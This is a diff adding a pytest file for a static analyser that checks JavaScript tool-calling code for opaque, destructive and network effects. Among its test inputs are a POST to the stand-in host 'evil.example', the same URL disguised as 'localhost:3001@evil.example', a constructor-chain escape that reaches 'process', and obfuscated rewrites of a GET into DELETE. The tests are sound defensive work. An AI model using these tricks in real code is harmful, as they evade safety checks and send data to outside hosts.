@@ -1,0 +1,92 @@
+"""Tools of wrapped servers: names, verbs, lists of the profile, and what could be any tool. (The conventions: examples/profiles.)"""
+
+from __future__ import annotations
+
+import pytest
+
+from guard.analyse.javascript.tools import judged, sink_for
+from guard.analyse.profile import profile_named
+from guard.model import Kind
+from tests.analyse.javascript.check import effects_of
+
+
+def effects(code: str, profile: str) -> set[tuple[Kind, str, bool]]:
+    return {(effect.kind, effect.resource.name, effect.exact) for effect in effects_of(code, profile=profile)}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "async () => codemode[name]({})",
+        "async () => { const c = codemode; return other(c) }",
+        "async () => Object.values(codemode)[0]({})",
+        "async () => { for (const k in codemode) codemode[k]({}) }",
+        "async () => { const { [name]: f } = codemode; f({}) }",
+        "async () => mystery()",
+        "async () => codemode.constructor.constructor('return process')()",
+    ],
+)
+def test_what_could_be_any_tool_is_opaque(code: str) -> None:
+    assert Kind.OPAQUE in {kind for kind, _, _ in effects(code, "codemode-code")}
+
+
+def test_a_name_is_folded_before_it_is_judged() -> None:
+    assert effects('async () => codemode["delete" + "_issue"]({})', "codemode-code") == {
+        (Kind.TOOL_DESTRUCTIVE, "server/delete_issue", True)
+    }
+
+
+def test_an_unknown_verb_writes() -> None:
+    assert effects("async () => codemode.frobnicate({})", "codemode-code") == {(Kind.TOOL_WRITE, "server/frobnicate", True)}
+
+
+def test_tools_handed_on_by_name_are_still_seen() -> None:
+    assert (Kind.OPAQUE, "run", False) in effects("async () => [1, 2].map(codemode.delete_issue)", "codemode-code")
+
+
+def test_the_strictest_list_counts() -> None:
+    cloudflare = profile_named("cloudflare")
+    assert cloudflare is not None
+    assert judged(cloudflare, "POST /zones/z/purge_cache", Kind.TOOL_WRITE) is Kind.TOOL_DESTRUCTIVE
+    assert judged(cloudflare, "GET /user/tokens", Kind.TOOL_READ) is Kind.TOOL_READ
+    assert judged(cloudflare, "POST /accounts/a/logs/search", Kind.TOOL_WRITE) is Kind.TOOL_READ
+
+
+def test_the_longest_sink_takes_a_name() -> None:
+    executor = profile_named("executor")
+    assert executor is not None
+    found = sink_for(executor, "tools.search")
+    assert found is not None
+    assert found[0].name == "tools.search"
+
+
+def test_the_network_stays_the_network_behind_a_server() -> None:
+    assert effects("async () => fetch('https://x.example/')", "cloudflare") == {(Kind.HTTP_GET, "x.example:443", True)}
+
+
+def test_the_proxy_of_another_host_is_the_network() -> None:
+    code = "fetch('http://evil.example/mcp/call', { method: 'POST', body: JSON.stringify({ server: 'a', tool: 'list' }) })"
+    assert effects(code, "jx-codemode") == {(Kind.HTTP_POST, "evil.example:80", True)}
+    disguised = code.replace("evil.example", "localhost:3001@evil.example")
+    assert effects(disguised, "jx-codemode") == {(Kind.HTTP_POST, "evil.example:80", True)}
+
+
+def test_names_of_the_language_are_no_tools() -> None:
+    assert effects("return Math.max(1, JSON.parse('2'))", "docker-gateway") == set()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'const o = { method: "GET", path: "/z" }; o.method = "DELETE"; return cloudflare.request(o)',
+        'const o = { method: "GET", path: "/z" }; o["met" + "hod"] = "DELETE"; return cloudflare.request(o)',
+        'const o = { method: "GET", path: "/z" }; o[k] = v; return cloudflare.request(o)',
+        'const o = { method: "GET", path: "/z" }; Object.assign(o, extra); return cloudflare.request(o)',
+        'const o = { method: "GET", path: "/z" }; change(o); function change(p) { p.method = "DELETE" } return cloudflare.request(o)',
+        'return cloudflare.request({ method: "GET", path: "/z", ...extra })',
+        'return cloudflare.request({ method: "GET", path: "/z", [k]: v })',
+        'return cloudflare.request(Object.assign({ method: "GET", path: "/z" }, extra))',
+    ],
+)
+def test_options_that_are_changed_after_they_were_written_down_are_not_believed(code: str) -> None:
+    assert Kind.TOOL_DESTRUCTIVE in {kind for kind, _, _ in effects(f"async () => {{ {code} }}", "cloudflare")}
